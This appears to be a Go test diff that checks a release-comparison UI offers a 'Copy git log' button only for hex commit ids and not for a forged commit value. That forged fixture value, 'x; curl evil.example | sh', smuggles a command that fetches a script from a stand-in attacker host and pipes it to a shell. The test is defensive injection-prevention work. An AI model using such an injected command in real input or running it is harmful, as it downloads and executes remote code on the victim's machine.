@@ -355,3 +355,19 @@ func TestUIPreviewListerCarriesThePull(t *testing.T) {
 		t.Errorf("preview %+v\nwant    %+v", got[0], want)
 	}
 }
+
+// A copied command carries commit ids only: a commit that is not hex (a
+// release recorded by hand, a forged one) gets no "Copy git log".
+func TestUIDiffCopiesOnlyHexCommits(t *testing.T) {
+	f := newUIFixture(t)
+	a := putUIRelease(t, f.store, store.Release{ID: relUIID('c'), Source: "demo", Commit: strings.Repeat("1", 40), Manifest: []byte(relUIManifest('1', '2'))})
+	good := putUIRelease(t, f.store, store.Release{ID: relUIID('d'), Source: "demo", Commit: strings.Repeat("2", 40), Manifest: []byte(relUIManifest('3', '2'))})
+	bad := putUIRelease(t, f.store, store.Release{ID: relUIID('e'), Source: "demo", Commit: "x; curl evil.example | sh", Manifest: []byte(relUIManifest('4', '2'))})
+	b := f.signIn(t, viewerSecret)
+	if p := b.get("/diff?from=" + a.ID + "&to=" + good.ID); !strings.Contains(p.body, `data-copy="git log `+a.Commit+`..`+good.Commit+`"`) {
+		t.Fatalf("two hex commits: no copy button\n%s", p.body)
+	}
+	if p := b.get("/diff?from=" + a.ID + "&to=" + bad.ID); p.code != http.StatusOK || strings.Contains(p.body, `data-copy="git log`) {
+		t.Fatalf("a commit that is not hex went into a command: %d\n%s", p.code, p.body)
+	}
+}
